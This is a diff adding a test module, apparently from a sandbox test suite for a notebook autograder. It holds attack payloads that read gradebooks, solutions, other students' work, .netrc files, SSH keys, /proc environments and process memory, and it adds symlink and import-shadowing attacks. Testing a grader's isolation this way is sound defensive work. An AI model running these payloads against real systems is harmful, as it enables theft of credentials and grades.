@@ -1,0 +1,197 @@
+"""Attacks that want to read: solutions, marks, others' work, the machine. All print what they find."""
+
+from tests.attacks.attack import ASSIGNMENT, Attack, Submission, first, in_target
+
+FAMILY = "reading"
+
+READ = '''
+def _try(path):
+    try:
+        with open(path, "rb") as file:
+            print(path, file.read(200_000).decode("latin-1").replace("\\\\u0000", "")[:100_000])
+    except OSError as error:
+        print(path, error)
+'''
+WALK = '''
+import os
+def _walk(top, names, most=20000):
+    for folder, folders, files in os.walk(top, onerror=lambda e: None):
+        folders[:] = [f for f in folders if f not in ("site-packages", "dist-packages", "proc")]
+        for name in files:
+            most -= 1
+            if most < 0:
+                return
+            if name.endswith(names):
+                _try(os.path.join(folder, name))
+'''
+
+SOURCES = {
+    "gradebook_file": READ + '_try("@COURSE@/gradebook.db")',
+    "gradebook_rows": '''
+import sqlite3
+print(sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True).execute(
+    "select * from student").fetchall())
+''',
+    "gradebook_by_nbgrader": '''
+from nbgrader.api import Gradebook
+with Gradebook("sqlite:///@COURSE@/gradebook.db") as gradebook:
+    print([student.last_name for student in gradebook.students])
+''',
+    "own_solution": READ + f'_try("@COURSE@/solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")',
+    "solution_beside_it": READ + f'''
+for up in (".", "..", "../..", "../../..", "/tmp/course/{ASSIGNMENT}", "/tmp/course"):
+    for down in ("", "solutions/{ASSIGNMENT}/", "{ASSIGNMENT}/", "../../source/"):
+        _try(f"{{up}}/{{down}}{ASSIGNMENT}.ipynb")
+''',
+    "others_submission": READ + f'_try("@COURSE@/submitted/neighbour/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")',
+    "others_by_glob": READ + '''
+import glob
+for path in glob.glob("../../*/*/*.ipynb") + glob.glob("/**/submitted/*/*/*.ipynb"):
+    _try(path)
+''',
+    "home": READ + '''
+import os, pwd
+for home in {os.path.expanduser("~"), "@HOME@", "/root", "/home", pwd.getpwuid(os.getuid())[5]
+             if os.path.exists("/etc/passwd") else "/"}:
+    for name in (".netrc", ".ssh/id_rsa", ".bash_history", ".jupyter/jupyter_server_config.py"):
+        _try(f"{home}/{name}")
+''',
+    "file_outside": READ + '_try("@OUTSIDE@/secret.txt")',
+    "environment": "import os\nprint(dict(os.environ))",
+    "environment_of_all": READ + '''
+import os
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for name in ("environ", "cmdline"):
+        _try(f"/proc/{pid}/{name}")
+''',
+    "through_proc_root": READ + '''
+import os
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for link in ("root", "cwd"):
+        _try(f"/proc/{pid}/{link}@HOME@/.netrc")
+        _try(f"/proc/{pid}/{link}/@COURSE@/gradebook.db")
+        _try(f"/proc/{pid}/{link}/gradebook.db")
+''',
+    "inherited_descriptors": READ + '''
+import os
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        target = os.readlink(f"/proc/self/fd/{fd}")
+        print(fd, target)
+        if "socket" not in target and "pipe" not in target and "eventfd" not in target:
+            os.lseek(int(fd), 0, 0)
+            print(os.read(int(fd), 100_000))
+        for name in ("gradebook.db", "../.netrc"):
+            _try(f"/proc/self/fd/{fd}/{name}")
+    except OSError as error:
+        print(error)
+''',
+    "memory_of_the_grader": '''
+import os
+for pid in {os.getppid(), 1}:
+    try:
+        maps = [line.split()[0] for line in open(f"/proc/{pid}/maps") if "heap" in line]
+        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
+            for area in maps:
+                low, high = (int(x, 16) for x in area.split("-"))
+                memory.seek(low)
+                data = memory.read(min(high - low, 64 << 20))
+                at = data.find(b"SECRET-")
+                print(pid, len(data), data[at:at + 60] if at >= 0 else b"")
+    except OSError as error:
+        print(error)
+''',
+    "walk_of_the_disk": READ + WALK + '_walk("@COURSE@", (".ipynb", ".db")); '
+    '_walk("/home", (".netrc",)); _walk("/tmp", (".ipynb", "secret.txt"), 3000)',
+    "shell_commands": '!cat @HOME@/.netrc @OUTSIDE@/secret.txt; env; ls -la @COURSE@ / /tmp ~',
+    "bash_magic": '''
+import subprocess
+print(subprocess.run("grep -rh SECRET @COURSE@ @HOME@ @OUTSIDE@ /proc/self/environ",
+                     shell=True, capture_output=True).stdout)
+''',
+    "symlink_in_workdir": READ + '''
+import os
+try:
+    os.symlink("@HOME@/.netrc", "notes.txt")
+except OSError as error:
+    print(error)
+_try("notes.txt")
+''',
+    "graders_code": '''
+import inspect
+try:
+    from grader import reference
+    from pathlib import Path
+    for function in reference.reference_functions(Path("@COURSE@"), "02_batchnorm_forward").values():
+        print(inspect.getsource(function))
+except Exception as error:
+    print(error)
+''',
+    "seed_in_the_heap": '''
+import gc, sys
+def batchnorm_forward(*args, **kwargs):
+    found = [thing for thing in gc.get_objects() if isinstance(thing, (dict, list, tuple))]
+    print([s for t in found for s in (t.values() if isinstance(t, dict) else t)
+           if isinstance(s, str) and "SECRET-8c" in s and len(s) < 200][:5])
+    frame = sys._getframe()
+    while frame:
+        print([v for v in frame.f_locals.values() if isinstance(v, str) and "-seed" in v][:5])
+        frame = frame.f_back
+    raise ValueError("no answer")
+''',
+    "history_of_others": '''
+print(get_ipython().user_ns.get("_ih"))
+print(list(get_ipython().history_manager.search("*SECRET*")))
+''',
+    "kernel_files": READ + WALK + '_walk("/run", (".json",)); _walk("/tmp", (".json", "log"), 3000)',
+    "exception_text": '''
+def batchnorm_forward(*args, **kwargs):
+    raise ValueError(open("@HOME@/.netrc").read() + open("@OUTSIDE@/secret.txt").read())
+''',
+}
+
+
+def _import_shadow(sub: Submission) -> None:
+    """A file beside the notebook is imported in place of a library, and reads for it."""
+    for name in ("numpy", "secrets", "json"):
+        text = f"print(open('{sub.bait.home}/.netrc').read())\n"
+        (sub.folder / f"{name}.py").write_text(text)
+    sub.cell("batchnorm_forward")["source"] = "import os, sys\nprint(os.listdir('.'), sys.path)"
+
+
+def _linked_file(sub: Submission) -> None:
+    """A link beside the notebook, which plain nbgrader follows when it copies the folder."""
+    (sub.folder / "data.csv").symlink_to(sub.bait.home / ".netrc")
+    (sub.folder / "all").symlink_to(sub.bait.course)
+    source = "!cat data.csv all/gradebook.db; ls -la"
+    sub.add(source, sub.index("setup") + 1)
+
+
+def _linked_notebook(sub: Submission) -> None:
+    """The notebook is a link to another student's."""
+    sub.path.symlink_to(sub.bait.course / "submitted" / "neighbour" / ASSIGNMENT / sub.path.name)
+    sub.written = True
+
+
+def _linked_folder(sub: Submission) -> None:
+    """The folder is a link to another student's."""
+    sub.folder.rmdir()
+    sub.folder.symlink_to(sub.bait.course / "submitted" / "neighbour" / ASSIGNMENT)
+    sub.written = True
+
+
+def _linked_solution(sub: Submission) -> None:
+    """The notebook is a link to the solution."""
+    sub.path.symlink_to(sub.bait.course / "solutions" / ASSIGNMENT / sub.path.name)
+    sub.written = True
+
+
+ATTACKS = [
+    *(Attack(name, FAMILY, in_target(source)) for name, source in SOURCES.items()),
+    Attack("environment_before_everything", FAMILY, first(SOURCES["environment_of_all"])),
+    Attack("import_shadow", FAMILY, _import_shadow),
+    Attack("linked_file", FAMILY, _linked_file),
+    Attack("linked_notebook", FAMILY, _linked_notebook, refused=True),
+    Attack("linked_folder", FAMILY, _linked_folder, refused=True),
+    Attack("linked_solution", FAMILY, _linked_solution, refused=True),
+]
